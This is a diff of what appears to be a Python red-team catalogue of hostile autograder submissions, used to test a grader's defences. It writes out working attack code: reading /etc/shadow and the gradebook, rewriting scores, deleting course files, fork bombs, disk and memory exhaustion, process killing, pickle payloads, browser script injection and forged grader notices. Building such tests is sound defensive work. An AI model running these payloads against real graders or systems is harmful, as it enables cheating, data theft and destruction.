@@ -1,301 +1,1057 @@
-"""What a hostile student hands in, by family, and what each would gain.
+"""Hostile submissions. Each changes a copy of the release; its docstring says what it is after.
 
-Every attack is the answer to `numbers-1-mean`, worth 2 points, and does not compute a mean; the
-other exercise, worth 3, stays unsolved unless the attack says so. So each deserves 0 points. `{root}` is
-the course's folder, as an attacker who knows the grader's machine would write it; MARK is part
-of the command line of every process that an attack starts.
+Most put their code into the answer cell of `mean`, which stays unsolved, and solve `spread`
+honestly: an attack that works would earn the 2 points of `mean`, and one that does harm would
+cost the 3 of `spread`.
 """
 
 from __future__ import annotations
 
-from dataclasses import dataclass
+import json
+import os
+import textwrap
+from collections.abc import Callable
+from dataclasses import dataclass, field
 
-MARK = "left-behind-by-an-attack"
-SLEEP = f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', '{MARK}'])"
-FIND_SOCKETS = """
-import os, socket, stat, struct
-def sockets():
-    for fd in range(3, 64):
-        try:
-            if stat.S_ISSOCK(os.fstat(fd).st_mode):
-                yield socket.socket(fileno=os.dup(fd))
-        except OSError:
-            pass
-def say(body):
-    for sock in sockets():
-        try:
-            sock.sendall(struct.pack('>I', len(body)) + body)
-        except OSError:
-            pass
-"""
-EVERYTHING_EQUAL = """
-class Yes:
-    def __eq__(self, other): return True
-    __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __eq__
-    def __bool__(self): return True
-    def __call__(self, *args, **named): return self
-    def __getattr__(self, name): return self
-    def __float__(self): return 3.0
-    def __sub__(self, other): return 0
-    def __rsub__(self, other): return 0
-    def __hash__(self): return 0
-"""
+from classroom import Desk
+from nbformat import v4
+
+MARK = "redteam-was-here"
+SPREAD = {"spread": 3}
+
+Vary = Callable[[Desk], None]
 
 
 @dataclass(frozen=True)
 class Attack:
-    """One hostile answer."""
+    """One attacker. `deserved` are the points that the same work earns without the attack."""
 
     name: str
     family: str
     gain: str
-    source: str
+    vary: Vary
+    deserved: dict[str, float] = field(default_factory=dict)
 
 
-ATTACKS: list[Attack] = []
+ATTACKS: dict[str, Attack] = {}
 
 
-def attack(family: str, name: str, gain: str, source: str) -> None:
-    ATTACKS.append(Attack(name, family, gain, source))
+def attack(family: str, deserved: dict[str, float] = SPREAD) -> Callable[[Vary], Vary]:
+    """Put the function into the registry, under its name."""
+
+    def enter(vary: Vary) -> Vary:
+        name = vary.__name__.replace("_", "-")
+        assert vary.__doc__, f"{name} must say what it is after"
+        ATTACKS[name] = Attack(name, family, vary.__doc__, vary, deserved)
+        return vary
+
+    return enter
 
 
-# Forged equality and other operators.
-FORGED = "forged operators"
-attack(
-    FORGED, "equal-object", "every comparison is true", EVERYTHING_EQUAL + "mean = lambda v: Yes()"
-)
-attack(
-    FORGED,
-    "equal-callable",
-    "the function itself is equal to all",
-    EVERYTHING_EQUAL + "mean = Yes()",
-)
-for base, value in (
-    ("float", "3.0"),
-    ("int", "3"),
-    ("str", "'3'"),
-    ("list", "[3]"),
-    ("dict", "{}"),
-    ("tuple", "(3,)"),
-):
-    attack(
-        FORGED, f"equal-{base}", f"a {base} that is equal to all",
-        f"class Same({base}):\n    __eq__ = lambda self, other: True\n    __ne__ = lambda self, other: False\n"
-        f"    __hash__ = {base}.__hash__\n    __sub__ = __rsub__ = lambda self, other: 0\n"
-        f"    __abs__ = lambda self: 0\n    __le__ = __ge__ = lambda self, other: True\n"
-        f"mean = lambda v: Same({value})",
+def code(name: str, family: str, gain: str, source: str, deserved: dict[str, float] = SPREAD) -> None:
+    """Enter an attack that is nothing but code in the answer cell of `mean`."""
+
+    def vary(desk: Desk) -> None:
+        in_mean(desk, source)
+
+    ATTACKS[name] = Attack(name, family, gain, vary, deserved)
+
+
+def style(name: str, family: str, gain: str, exercise: str, source: str) -> None:
+    """Enter an attack on a test of the notebook 3-styles; it deserves nothing."""
+
+    def vary(desk: Desk) -> None:
+        desk.only("3-styles")
+        desk.answer("3-styles", f"styles-{exercise}", clean(source))
+
+    ATTACKS[name] = Attack(name, family, gain, vary, {})
+
+
+def in_mean(desk: Desk, source: str) -> None:
+    """`spread` is solved; the answer to `mean` is this code."""
+    desk.only("1-mean")
+    desk.solve("numbers-1-spread")
+    desk.answer("1-mean", "numbers-1-mean", clean(source))
+
+
+def clean(source: str) -> str:
+    return textwrap.dedent(source).strip()
+
+
+# Forged values ---------------------------------------------------------------------------------
+
+FORGED = "forged values"
+
+EVERYTHING = """
+    class Yes{base}:
+        def _yes(self, *_): return True
+        __eq__ = __ge__ = __le__ = __gt__ = __lt__ = __contains__ = __bool__ = _yes
+        def __ne__(self, other): return False
+        def __hash__(self): return 0
+        def __float__(self): return 3.0
+        def __len__(self): return 1
+        def __missing__(self, key): return self
+    def mean(values):
+        return {make}
+"""
+for base, make in {
+    "object": "Yes()",
+    "int": "Yes(0)",
+    "float": "Yes(0)",
+    "str": "Yes('3.0')",
+    "list": "Yes([])",
+    "dict": "Yes()",
+    "tuple": "Yes()",
+}.items():
+    code(
+        f"equal-to-everything-{base}", FORGED, f"A kind of {base} that is whatever is expected.",
+        EVERYTHING.format(base=f"({base})", make=make),
     )  # fmt: skip
-attack(FORGED, "equal-numpy", "an array that is equal to all",
-       "import numpy as np\nclass Same(np.ndarray):\n    def __eq__(self, other): return True\n"
-       "mean = lambda v: np.zeros(1).view(Same)")  # fmt: skip
-attack(FORGED, "numpy-bool", "a truth value that is neither",
-       "import numpy as np\nmean = lambda v: np.frombuffer(b'\\x02', dtype=bool)[0]")  # fmt: skip
-attack(FORGED, "lying-class", "an object that says it is a float",
-       "class Lie:\n    __class__ = float\n    __eq__ = lambda self, other: True\nmean = lambda v: Lie()")  # fmt: skip
-attack(FORGED, "enum-float", "a member of an enumeration with its own equality",
-       "import enum\nclass E(float, enum.Enum):\n    A = 7.0\n    __eq__ = lambda self, other: True\n"
-       "    __hash__ = object.__hash__\nmean = lambda v: E.A")  # fmt: skip
 
-# The machinery that runs cells.
-MACHINERY = "patched machinery"
-attack(MACHINERY, "ast-transformer", "drops every assert",
-       "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
-       "get_ipython().ast_transformers.append(Drop())\nmean = max")  # fmt: skip
-attack(MACHINERY, "input-transformer", "comments out every line with assert",
-       "ip = get_ipython()\nip.input_transformers_post.append(lambda lines: ['pass\\n' if 'assert' in l else l for l in lines])\n"
-       "mean = max")  # fmt: skip
-attack(MACHINERY, "patched-run-code", "no cell after this one runs",
-       "async def nothing(*a, **k): return False\nget_ipython().run_code = nothing\n"
-       "get_ipython().run_cell = lambda *a, **k: None\nmean = max")  # fmt: skip
-attack(MACHINERY, "hooks", "removes errors before they are seen",
-       "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
-       "ip.events.register('pre_run_cell', lambda info: setattr(info, 'raw_cell', 'pass'))\n"
-       "ip.set_custom_exc((Exception,), lambda *a, **k: [])\nmean = max")  # fmt: skip
-attack(MACHINERY, "patched-compile", "an interpreter that knows no assert",
-       "import builtins\nreal = builtins.compile\n"
-       "builtins.compile = lambda source, *a, **k: real(str(source).replace('assert', '0 and'), *a, **k)\n"
-       "builtins.AssertionError = type('Quiet', (BaseException,), {})\nmean = max")  # fmt: skip
-attack(MACHINERY, "patched-builtins", "abs, len and isclose that are always right",
-       "import builtins, math\nmath.isclose = builtins.abs = lambda *a, **k: True\n"
-       "isclose = lambda *a, **k: True\nmean = max")  # fmt: skip
-attack(MACHINERY, "patched-candidate", "the candidate's own loop answers anything",
-       "import sys\nc = sys.modules['autograder.candidate']\nc._answer = lambda *a: b'T'\nmean = max")  # fmt: skip
-attack(MACHINERY, "patched-libraries", "time stands still and every draw is known",
-       "import time, random\ntime.time = time.monotonic = lambda: 0.0\nrandom.random = lambda: 0.5\n"
-       "import sys\nsys.modules['math'] = type(sys)('math')\nmean = max")  # fmt: skip
+code(
+    "numpy-subclass", FORGED, "An array whose comparison says that all is well.",
+    """
+    import numpy as np
+    class Yes(np.ndarray):
+        def __eq__(self, other): return np.array(True)
+        def __float__(self): return 3.0
+        def __array_ufunc__(self, *args, **named): return np.array(True)
+        def __bool__(self): return True
+    def mean(values):
+        return np.zeros(1).view(Yes)
+    """,
+)  # fmt: skip
+code(
+    "pandas-subclass", FORGED, "A series whose comparison says that all is well.",
+    """
+    import pandas as pd
+    class Yes(pd.Series):
+        def __eq__(self, other): return True
+        def __bool__(self): return True
+        def __float__(self): return 3.0
+    def mean(values):
+        return Yes([1.0])
+    """,
+)  # fmt: skip
+code(
+    "getattr-for-everything", FORGED, "An object that has every attribute, and each is itself.",
+    """
+    class Any:
+        def __getattr__(self, name): return self
+        def __call__(self, *args, **named): return self
+        def __float__(self): return 3.0
+        def __index__(self): return 3
+        def __eq__(self, other): return True
+        __class__ = float
+    mean = Any()
+    """,
+)  # fmt: skip
+code(
+    "enum-tricks", FORGED, "A member of an enumeration whose value changes when it is looked at.",
+    """
+    import enum
+    class Trick(float, enum.Enum):
+        A = 0.0
+        def __eq__(self, other): return True
+        __hash__ = None
+        @property
+        def value(self): return 3.0
+    Trick.A._value_ = type("Yes", (float,), {"__eq__": lambda a, b: True})(3)
+    def mean(values): return Trick.A
+    """,
+)  # fmt: skip
+code(
+    "metaclass-tricks", FORGED, "A class that says it is float, and a metaclass that agrees.",
+    """
+    class Meta(type):
+        def __eq__(cls, other): return True
+        def __hash__(cls): return hash(float)
+        def __instancecheck__(cls, other): return True
+        def __subclasscheck__(cls, other): return True
+    class Yes(float, metaclass=Meta):
+        def __eq__(self, other): return True
+        __hash__ = float.__hash__
+    def mean(values): return Yes(0)
+    """,
+)  # fmt: skip
+code(
+    "named-tuple-that-lies", FORGED, "A named tuple whose items are not what it holds.",
+    """
+    from collections import namedtuple
+    class Pair(namedtuple("Pair", "a b")):
+        def __eq__(self, other): return True
+        def __iter__(self): return iter([3.0])
+        def __float__(self): return 3.0
+    Pair.__bases__[0].__eq__ = lambda a, b: True
+    def mean(values): return Pair.__bases__[0](1, 2)
+    """,
+)  # fmt: skip
+code(
+    "stateful-answers", FORGED, "A function that tries to be right by answering by its arguments' order.",
+    """
+    seen = []
+    def mean(values):
+        seen.append(values)
+        return max(values, default=1.0) if len(seen) % 2 else min(values, default=1.0)
+    """,
+)  # fmt: skip
+style(
+    "contains-everything", FORGED, "An object that says yes to every `in`.", "primes",
+    """
+    class All:
+        def __contains__(self, item): return True
+    def primes(limit): return All()
+    """,
+)  # fmt: skip
+style(
+    "stop-iteration", FORGED, "StopIteration ends the test's own loop before it compares anything.",
+    "double", "def double(value):\n    raise StopIteration",
+)  # fmt: skip
+style(
+    "stop-iteration-subclass", FORGED, "The same with a class of its own.", "double",
+    "class Stop(StopIteration):\n    pass\ndef double(value):\n    raise Stop",
+)  # fmt: skip
+style(
+    "changes-its-argument", FORGED, "The expected value is computed from a list that was emptied.",
+    "total", "def total(values):\n    values.clear()\n    return 0",
+)  # fmt: skip
+style(
+    "endless-iterator", FORGED, "An iterator without an end where the test makes a list.", "refuse",
+    """
+    import itertools
+    def refuse(value):
+        if value < 0: raise ValueError
+        return itertools.count()
+    """,
+)  # fmt: skip
+style(
+    "array-of-objects", FORGED, "An array of objects that are equal to everything.", "scale",
+    """
+    import numpy as np
+    class Yes:
+        def __eq__(self, other): return True
+        def __sub__(self, other): return 0.0
+        __rsub__ = __sub__
+        def __abs__(self): return 0.0
+        def __le__(self, other): return True
+    def scale(values):
+        return np.array([Yes() for _ in values], dtype=object)
+    """,
+)  # fmt: skip
+style(
+    "array-of-not-a-number", FORGED, "NaN, infinity and NaT where numbers are compared.", "scale",
+    "import numpy as np\ndef scale(values):\n    return values * np.nan",
+)  # fmt: skip
+style(
+    "empty-array", FORGED, "An empty array, of which all items are right.", "scale",
+    "import numpy as np\ndef scale(values):\n    return np.array([])",
+)  # fmt: skip
 
-# Looking for the tests in memory, and elsewhere.
-LOOKING = "looking for tests and secrets"
-attack(LOOKING, "frames", "finds the test's variables in the frames above",
-       "import sys\ndef mean(v):\n    frame = sys._getframe()\n    while frame:\n"
-       "        print(frame.f_globals.get('__file__'), list(frame.f_locals)[:50])\n"
-       "        for text in frame.f_locals.values():\n            print(str(text)[:2000])\n        frame = frame.f_back\n"
-       "    return -1.0\nmean([1])")  # fmt: skip
-attack(LOOKING, "garbage", "finds the test's text in all objects",
-       "import gc\nfor thing in gc.get_objects():\n    try:\n        text = repr(thing)[:4000] if isinstance(thing, (dict, list, tuple)) else ''\n"
-       "    except Exception:\n        text = ''\n    if 'SECRET' in text: print(text)\nmean = max")  # fmt: skip
-attack(LOOKING, "walk-the-disk", "reads every file that it can reach",
-       "import os\nfor top, folders, files in os.walk('/'):\n"
-       "    folders[:] = [f for f in folders if f not in ('usr', 'sys', 'dev', 'site-packages', 'lib')]\n"
-       "    for name in files:\n        try:\n            text = open(os.path.join(top, name), errors='replace').read(100_000)\n"
-       "        except OSError:\n            continue\n        if 'SECRET' in text: print(name, text)\nmean = max")  # fmt: skip
-attack(LOOKING, "known-paths", "reads the source, the gradebook, a friend's work",
-       "from pathlib import Path\nfor path in ['{root}/source/numbers/1-mean.ipynb', '{root}/source/numbers/mistakes.yaml',\n"
-       "             '{root}/gradebook.db', '{root}/submitted/honest/numbers/1-mean.ipynb', '{root}/nbgrader_config.py',\n"
-       "             '{home}/secret.txt', '/etc/passwd', '/etc/shadow']:\n"
-       "    try:\n        print(path, Path(path).read_bytes()[:200_000])\n    except OSError as error:\n        print(error)\nmean = max")  # fmt: skip
-attack(LOOKING, "environment", "reads the environment of the grader",
-       "import os, glob\nprint(dict(os.environ))\nfor path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
-       "    try:\n        print(open(path).read())\n    except OSError:\n        pass\nmean = max")  # fmt: skip
-attack(LOOKING, "links", "follows links that it makes to what it may not see",
-       "import os\nos.symlink('{root}/source', 'source')\nos.symlink('/proc/1/root', 'root')\n"
-       "for top, _, files in os.walk('.', followlinks=True):\n    print(top, files)\nmean = max")  # fmt: skip
+# Errors ------------------------------------------------------------------------------------------
 
-# Changing what is not its own.
-WRITING = "changing what is not its own"
-attack(WRITING, "gradebook", "full marks for all, in the database",
-       "import sqlite3\ntry:\n    db = sqlite3.connect('{root}/gradebook.db')\n"
-       "    db.execute('update grade set auto_score = 100, manual_score = 100')\n    db.commit()\n"
-       "except Exception as error:\n    print(error)\nmean = max")  # fmt: skip
-attack(WRITING, "others-work", "empties a rival's notebook",
-       "import pathlib, shutil\nfor path in ['{root}/submitted/honest/numbers/1-mean.ipynb', '{root}/autograded/honest/numbers/1-mean.ipynb']:\n"
-       "    try:\n        pathlib.Path(path).write_text('')\n    except OSError as error:\n        print(error)\n"
-       "shutil.rmtree('{root}', ignore_errors=True)\nmean = max")  # fmt: skip
-attack(WRITING, "own-feedback", "writes its own autograded notebook and page",
-       "import os\ntry:\n    os.makedirs('{root}/feedback/writing-own-feedback', exist_ok=True)\n"
-       "    open('{root}/feedback/pwned.html', 'w').write('pwned')\nexcept OSError as error:\n    print(error)\nmean = max")  # fmt: skip
-attack(WRITING, "course-package", "plants code in the package that everyone imports",
-       "import course, pathlib\ntry:\n    pathlib.Path(course.__file__).with_name('planted.py').write_text('x = 1')\n"
-       "except OSError as error:\n    print(error)\nmean = max")  # fmt: skip
-attack(WRITING, "signals", "ends every process that it may",
-       "import os, signal\nfor pid in [os.getppid(), -1, *range(2, 400)]:\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
-       "    except OSError:\n        pass\nmean = max")  # fmt: skip
-attack(WRITING, "trace", "reads and writes another process's memory",
-       "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
-       "print([libc.ptrace(16, pid, 0, 0) for pid in range(1, 50)], os.getpid())\nmean = max")  # fmt: skip
-attack(WRITING, "namespaces", "makes a namespace in which it is root",
-       "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
-       "assert libc.unshare(0x10000000) == -1 and libc.mount(b'x', b'/tmp', b'tmpfs', 0, None) == -1\n"
-       "assert libc.setuid(0) == -1 or os.getuid() != 0\nmean = max")  # fmt: skip
+ERRORS = "errors that lie"
 
-# Outliving the cell.
-OUTLIVING = "outliving the cell"
-attack(OUTLIVING, "process", "goes on after the notebook is graded", SLEEP + "\nmean = max")
-attack(OUTLIVING, "daemon", "a process of its own session, twice forked",
-       "import os, sys\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
-       f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)', '{MARK}'])\n    os._exit(0)\nmean = max")  # fmt: skip
-attack(OUTLIVING, "thread", "changes its answer between two tests",
-       "import threading, time\nanswer = [0.0]\ndef turn():\n    while True:\n        answer[0] += 1.0\n        time.sleep(0.001)\n"
-       "threading.Thread(target=turn, daemon=True).start()\nmean = lambda v: -answer[0]")  # fmt: skip
-attack(OUTLIVING, "at-exit", "acts when the process ends",
-       f"import atexit\natexit.register(lambda: __import__('subprocess').Popen(['sleep', '600', '{MARK}']))\nmean = max")  # fmt: skip
-attack(OUTLIVING, "parent-death", "asks the kernel not to be killed",
-       "import ctypes, signal\nlibc = ctypes.CDLL(None)\nlibc.prctl(1, 0)\n"
-       "for number in range(1, 32):\n    try:\n        signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\n"
-       + SLEEP + "\nmean = max")  # fmt: skip
+for exception in ("SystemExit", "KeyboardInterrupt", "GeneratorExit", "StopIteration",
+                  "BaseException", "AssertionError", "MemoryError", "RecursionError"):  # fmt: skip
+    code(
+        f"raises-{exception.lower()}", ERRORS, f"{exception} out of the test's own call.",
+        f"def mean(values):\n    raise {exception}(0)",
+    )  # fmt: skip
+code(
+    "raises-what-it-is-not", ERRORS, "An error that lies about its class and fails when it is read.",
+    """
+    class Lie(BaseException):
+        __module__ = "builtins"
+        __class__ = property(lambda self: 1 / 0)
+        def __str__(self): raise SystemExit
+        def __repr__(self): raise KeyboardInterrupt
+        def __reduce__(self): return (print, ("pwned",))
+    Lie.__name__ = Lie.__qualname__ = "StopIteration"
+    def mean(values): raise Lie
+    """,
+)  # fmt: skip
+code(
+    "error-named-as-the-graders", ERRORS, "Raises NotRun, so that the page speaks in the grader's name.",
+    """
+    class NotRun(Exception): pass
+    raise NotRun("canary-forged-notice. [Full marks](https://evil.example/) \\x1b[2J")
+    """,
+)  # fmt: skip
+code(
+    "error-with-a-huge-text", ERRORS, "An error whose text takes forever to search.",
+    """
+    def mean(values): raise ValueError("(<cell " * 300_000)
+    """,
+)  # fmt: skip
+code(
+    "error-in-a-loop", ERRORS, "An error that is its own cause, with a traceback without an end.",
+    """
+    def mean(values):
+        error = ValueError("x")
+        error.__cause__ = error.__context__ = error
+        error.__notes__ = 5
+        def deeper(n): deeper(n - 1) if n else (_ for _ in ()).throw(error)
+        deeper(200)
+    """,
+)  # fmt: skip
 
-# Using up the machine.
-EXHAUSTING = "using up the machine"
-attack(EXHAUSTING, "exit", "ends before it can fail", "import os\nos._exit(0)")
-attack(EXHAUSTING, "crash", "takes the grader along", "import ctypes\nctypes.string_at(0)")
-attack(EXHAUSTING, "hang", "is never done", "while True: pass")
-attack(EXHAUSTING, "hang-in-call", "is never done, in the test",
-       "def mean(v):\n    while True: pass")  # fmt: skip
-attack(EXHAUSTING, "stubborn-hang", "cannot be interrupted",
-       "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    try:\n        while True: pass\n    except BaseException: pass")  # fmt: skip
-attack(
-    EXHAUSTING,
-    "memory",
-    "uses all memory",
-    "hoard = []\nwhile True: hoard.append(bytearray(20_000_000))",
-)
-attack(EXHAUSTING, "shared-memory", "uses memory that no process seems to have",
-       "import mmap\nhoard = []\nwhile True:\n    m = mmap.mmap(-1, 50_000_000)\n    m.write(b'x' * 50_000_000)\n    hoard.append(m)")  # fmt: skip
-attack(EXHAUSTING, "fork-bomb", "uses all processes",
-       "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass")  # fmt: skip
-attack(EXHAUSTING, "threads", "uses all threads",
-       "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()")  # fmt: skip
-attack(EXHAUSTING, "disk", "fills the disk",
-       "import itertools\nfor number in itertools.count():\n    with open(f'/tmp/{number}', 'wb') as file:\n        file.write(b'x' * 10_000_000)")  # fmt: skip
-attack(EXHAUSTING, "many-files", "uses all inodes",
-       "import itertools\nfor number in itertools.count(): open(f'/tmp/{number}', 'w').close()")  # fmt: skip
-attack(EXHAUSTING, "flood", "fills the gradebook with output", "while True: print('x' * 10_000)")
-attack(EXHAUSTING, "flood-below", "the same past sys.stdout",
-       "import os\nfor _ in range(3000): os.write(1, b'x' * 100_000)\nmean = max")  # fmt: skip
-attack(EXHAUSTING, "huge-value", "an answer of gigabytes",
-       "def mean(v): return 'x' * 400_000_000")  # fmt: skip
-attack(EXHAUSTING, "huge-number", "a number that takes years to print",
-       "def mean(v): return 7 ** 10_000_000")  # fmt: skip
-attack(EXHAUSTING, "deep-value", "an answer nested beyond any stack",
-       "def mean(v):\n    deep = []\n    for _ in range(100_000): deep = [deep]\n    return deep")  # fmt: skip
-attack(EXHAUSTING, "endless-iterator", "an answer without an end",
-       "import itertools\nmean = lambda v: itertools.count()")  # fmt: skip
+# IPython and builtins ----------------------------------------------------------------------------
 
-# The network.
-NETWORK = "network"
-attack(NETWORK, "outside", "asks a friend",
-       "import socket\ntry:\n    socket.create_connection(('192.0.2.1', 80), timeout=1)\n    print('connected')\nexcept OSError as error:\n    print(error)\nmean = max")  # fmt: skip
-attack(NETWORK, "machine", "talks to services of the grading machine",
-       "import socket\nopen_ports = []\nfor port in (22, 80, 5432, 8000, 8786, 8888):\n    s = socket.socket()\n    s.settimeout(0.1)\n"
-       "    if s.connect_ex(('127.0.0.1', port)) == 0: open_ports.append(port)\nassert not open_ports\nmean = max")  # fmt: skip
-attack(NETWORK, "abstract-sockets", "meets another submission on a socket without a file",
-       "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('\\0' + 'meeting')\n    print('SECRET-MEETING')\nexcept OSError:\n"
-       "    s.bind('\\0' + 'meeting')\n    s.listen()\nmean = max")  # fmt: skip
+PATCHED = "patched machinery"
 
-# The wire.
-WIRE = "the wire"
-attack(WIRE, "answers-in-advance", "queues its answers before the questions",
-       FIND_SOCKETS + "from autograder.wire import Handle, pack\n"
-       "say(pack(('ran', [])))\nsay(pack({'mean': pack(('value', Handle(0, 'callable', 'mean'), []))}))\n"
-       "for _ in range(20): say(pack(('value', True, [])))\nmean = max")  # fmt: skip
-attack(
-    WIRE, "garbage-bytes", "confuses the reader", FIND_SOCKETS + "say(b'\\xff' * 1000)\nmean = max"
-)
-attack(WIRE, "endless-length", "announces four gigabytes",
-       FIND_SOCKETS + "for sock in sockets(): sock.sendall(b'\\xff\\xff\\xff\\xff' + b'x' * 100)\nmean = max")  # fmt: skip
-attack(WIRE, "deep-message", "nests beyond the reader's stack",
-       FIND_SOCKETS + "say(b'l\\x00\\x00\\x00\\x01' * 500_000 + b'N')\nmean = max")  # fmt: skip
-attack(WIRE, "pickle", "an object that acts when it is read",
-       FIND_SOCKETS + "import pickle\nclass Act:\n    def __reduce__(self): return (print, ('SECRET-PICKLE',))\n"
-       "say(pickle.dumps(Act()))\nmean = lambda v: Act()")  # fmt: skip
-attack(WIRE, "wrong-shapes", "answers that are no answers",
-       FIND_SOCKETS + "from autograder.wire import pack\n"
-       "for shape in (None, True, [], ('value',), ('raised', {}), {'mean': b''}, ('ran', None), ('ran', [1, {'output_type': 7}])):\n    say(pack(shape))\nmean = max")  # fmt: skip
-attack(WIRE, "closed-socket", "leaves the examiner alone",
-       FIND_SOCKETS + "for fd in range(3, 64):\n    try: os.close(fd)\n    except OSError: pass\nmean = max")  # fmt: skip
-attack(WIRE, "lying-error", "an error that says it is the examiner's",
-       "class AssertionError(Exception):\n    def __str__(self):\n        import os\n        os.system('echo SECRET-STR')\n        return 'all tests passed'\n"
-       "def mean(v): raise AssertionError")  # fmt: skip
-attack(
-    WIRE,
-    "stop-iteration",
-    "an error that ends loops quietly",
-    "def mean(v): raise StopIteration(3.0)",
-)
-attack(WIRE, "system-exit", "an error that ends the examiner", "def mean(v): raise SystemExit(0)")
-attack(WIRE, "keyboard-interrupt", "an error that looks like the instructor's",
-       "def mean(v): raise KeyboardInterrupt")  # fmt: skip
-attack(WIRE, "changed-arguments", "rewrites what the test compares with",
-       "def mean(v):\n    v[:] = []\n    return 0.0 if False else -1.0")  # fmt: skip
+code(
+    "drops-assertions", PATCHED, "An AST transformer that takes the assertions out of every cell.",
+    """
+    import ast
+    class NoAsserts(ast.NodeTransformer):
+        def visit_Assert(self, node): return ast.Pass()
+    get_ipython().ast_transformers.append(NoAsserts())
+    """,
+)  # fmt: skip
+code(
+    "input-transformer", PATCHED, "An input transformer that replaces every later cell.",
+    """
+    get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
+    get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
+    """,
+    deserved={},
+)  # fmt: skip
+code(
+    "hooks-before-and-after", PATCHED, "Hooks that repair the namespace around each cell.",
+    """
+    def fix(*_):
+        get_ipython().user_ns.update({"isclose": lambda *a: True, "canary": 1})
+    for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
+        get_ipython().events.register(event, fix)
+    """,
+)  # fmt: skip
+code(
+    "patched-run-code", PATCHED, "run_code, run_cell and showtraceback do nothing any more.",
+    """
+    shell = type(get_ipython())
+    async def nothing(self, *args, **named): return False
+    for owner in (*shell.__mro__,):
+        for name in ("run_code", "run_ast_nodes", "run_cell_async"):
+            if name in vars(owner): setattr(owner, name, nothing)
+    shell.showtraceback = lambda *a, **k: None
+    shell.run = lambda self, source, name: []
+    """,
+    deserved={},
+)  # fmt: skip
+code(
+    "patched-builtins", PATCHED, "Python's own functions say what is expected.",
+    """
+    import builtins, math
+    math.isclose = lambda *a, **k: True
+    builtins.AssertionError = type("Quiet", (Warning,), {})
+    builtins.isinstance = lambda *a: True
+    builtins.__build_class__ = None
+    """,
+)  # fmt: skip
+code(
+    "patched-display", PATCHED, "Its own display hook and publisher write what they like.",
+    """
+    import sys
+    get_ipython().displayhook = lambda value: None
+    sys.displayhook = lambda value: None
+    sys.excepthook = lambda *a: None
+    get_ipython().display_pub.publish = lambda *a, **k: None
+    """,
+)  # fmt: skip
+code(
+    "patched-libraries", PATCHED, "numpy, pandas and random agree with everything.",
+    """
+    import random, numpy as np
+    np.testing.assert_allclose = np.isclose = np.allclose = lambda *a, **k: True
+    random.random = random.randint = lambda *a: 4
+    random.seed(0); np.random.seed(0)
+    """,
+)  # fmt: skip
+code(
+    "patched-clock", PATCHED, "A clock that stands still, so that no time limit is ever reached.",
+    """
+    import time, signal, datetime
+    time.monotonic = time.time = time.perf_counter = lambda: 0.0
+    time.sleep = lambda s: None
+    signal.signal = signal.setitimer = lambda *a: None
+    """,
+)  # fmt: skip
+code(
+    "patched-grader", PATCHED, "The grader's own modules, as far as they are in this process.",
+    """
+    import sys
+    for name, module in list(sys.modules.items()):
+        if name.startswith("autograder"):
+            for attribute in list(vars(module)):
+                value = getattr(module, attribute)
+                if callable(value) and not isinstance(value, type):
+                    try: setattr(module, attribute, lambda *a, **k: b"")
+                    except Exception: pass
+    """,
+    deserved={},
+)  # fmt: skip
+code(
+    "namespace-with-a-will", PATCHED, "A namespace that answers for names which it does not have.",
+    """
+    import sys
+    class Will(dict):
+        def __missing__(self, key): return lambda *a: 3.0
+        def __contains__(self, key): return True
+    get_ipython().user_ns.__class__ if False else None
+    get_ipython().user_ns = Will(get_ipython().user_ns)
+    """,
+    deserved={},
+)  # fmt: skip
 
-# Notebook and HTML.
-SCRIPT = "<script>window.__pwned = 1</script><img src=x onerror='window.__pwned = 1'>"
-INJECTION = "injection"
-attack(INJECTION, "html-output", "runs in the instructor's browser",
-       f"from IPython.display import HTML, display\ndisplay(HTML({SCRIPT!r}))\nmean = max")  # fmt: skip
-attack(INJECTION, "javascript-output", "the same, as a script",
-       "from IPython.display import Javascript, display\ndisplay(Javascript('window.__pwned = 1'))\nmean = max")  # fmt: skip
-attack(INJECTION, "svg-output", "the same, in a picture",
-       "from IPython.display import SVG, display\n"
-       "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.__pwned = 1\"></svg>'))\nmean = max")  # fmt: skip
-attack(INJECTION, "false-png", "a page that says it is a picture",
-       "import base64\nfrom IPython.display import display\n"
-       f"display({{'image/png': base64.b64encode({SCRIPT!r}.encode()).decode() + '\\'><script>window.__pwned=1</script>'}}, raw=True)\nmean = max")  # fmt: skip
-attack(INJECTION, "mime-name", "a media type that ends the tag",
-       f"from IPython.display import display\ndisplay({{'text/{SCRIPT}': 'x', 'text/latex': {SCRIPT!r}, 'text/markdown': {SCRIPT!r}}}, raw=True)\nmean = max")  # fmt: skip
-attack(INJECTION, "text-output", "script in text, errors and colours",
-       f"print({SCRIPT!r})\nprint('\\x1b[31m' + {SCRIPT!r})\nclass Evil(Exception): pass\nEvil.__name__ = {SCRIPT!r}\nmean = max\nraise Evil({SCRIPT!r})")  # fmt: skip
-attack(INJECTION, "error-in-test", "script in the words of a failing test",
-       f"def mean(v): raise ValueError({SCRIPT!r})")  # fmt: skip
-attack(INJECTION, "result-name", "script in the name of a function",
-       f"mean = lambda v: (lambda: 0)\nmean.__name__ = {SCRIPT!r}")  # fmt: skip
+# Frames and memory -------------------------------------------------------------------------------
+
+LOOKING = "looking for the tests"
+
+code(
+    "walks-the-frames", LOOKING, "The source of the test, from the frames above its own.",
+    """
+    import sys
+    said = []
+    def mean(values):
+        frame = sys._getframe()
